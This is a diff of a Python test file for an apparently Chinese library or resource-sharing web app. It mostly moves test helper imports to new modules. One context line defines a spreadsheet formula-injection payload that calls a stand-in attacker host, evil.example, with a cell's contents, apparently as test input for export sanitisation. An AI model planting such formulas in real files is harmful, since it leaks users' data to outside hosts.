@@ -13,8 +13,8 @@ from library.accounts import service as accounts
 from library.assessment import scores
 from library.resources.service import IncomingFile, create_resource
 from library.studios import service as studios
-from tests.conftest import bearer
-from tests.stats.conftest import YEAR
+from tests.support.app import bearer
+from tests.support.stats import YEAR
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
 
@@ -62,7 +62,7 @@ def test_activity_ids_that_are_not_plain_or_too_big_are_refused_not_500(client, 
 
 
 def test_deleting_an_activity_with_a_huge_id_is_not_found(client, known):
-    from tests.conftest import csrf_token, login
+    from tests.support.app import csrf_token, login
 
     login(client, "wangli")
     token = csrf_token(client, "/studios/wang-math/activities")
@@ -91,7 +91,7 @@ def test_a_day_and_a_year_are_the_countys_not_utcs(app, client, known):
     from library.db import get_session
     from library.lending.models import Loan
     from library.resources.models import Resource
-    from tests.stats.conftest import BROWSER
+    from tests.support.stats import BROWSER
 
     with app.app_context():
         from library.stats import usage
@@ -193,8 +193,8 @@ def test_a_suffix_range_is_a_later_byte_range_not_a_new_download(app, client, sa
 
     from library.db import get_session
     from library.stats.models import UsageEvent
-    from tests.conftest import build_world, upload
-    from tests.stats.conftest import BROWSER
+    from tests.support.app import build_world, upload
+    from tests.support.stats import BROWSER
 
     world = build_world(app)
     body = upload(client, world.host_token, [sample_dir / "光合作用.pdf"], title="光合作用实验").json
